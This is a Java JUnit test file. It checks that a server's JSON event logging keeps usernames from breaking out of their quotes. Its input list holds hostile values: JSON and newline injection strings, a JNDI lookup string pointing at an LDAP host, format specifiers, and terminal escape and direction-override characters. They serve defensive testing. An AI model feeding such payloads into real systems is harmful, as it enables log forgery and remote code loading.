package org.turnd.server.ops;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.typesafe.config.Config;
import com.typesafe.config.ConfigFactory;
import com.typesafe.config.ConfigParseOptions;
import com.typesafe.config.ConfigSyntax;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.turnd.server.config.EventKind;

class EventTest {
    static List<String> hostileNames() {
        return List.of(
                "eve\",\"event\":\"allocation_ended\",\"x\":\"",
                "eve\n{\"event\":\"allocation_ended\"}\r\n",
                "eve\\",
                "eve\\u0022",
                "${jndi:ldap://192.0.2.1/a}",
                "{} %n %d %msg %s",
                "\u001b[2J\u0007\u0000\u007f\u0085",
                "ab\u202etxt.exe\u2066\u200b\ufeff",
                "line\u2028and\u2029paragraph",
                "\ud83d\ude00",
                new String(new byte[] {'e', (byte) 0xc3, (byte) 0x28}, StandardCharsets.UTF_8),
                "\ud800 alone",
                "x".repeat(508),
                "\u0001".repeat(508));
    }

    @ParameterizedTest
    @MethodSource("hostileNames")
    @Tag("S-11")
    void noUserNameBreaksOutOfItsQuotes(String name) {
        var event =
                new Event(
                        Instant.EPOCH,
                        EventKind.ALLOCATION_CREATED,
                        Map.of(EventField.USERNAME, name, EventField.ID, "0-1"));

        String json = event.json();

        Config parsed =
                ConfigFactory.parseString(
                        json, ConfigParseOptions.defaults().setSyntax(ConfigSyntax.JSON));
        assertEquals(name, parsed.getString("username"));
        assertEquals("allocation_created", parsed.getString("event"));
        assertEquals(4, parsed.root().size());
        assertTrue(json.chars().allMatch(c -> LogText.isVisible((char) c)), json);
    }
}
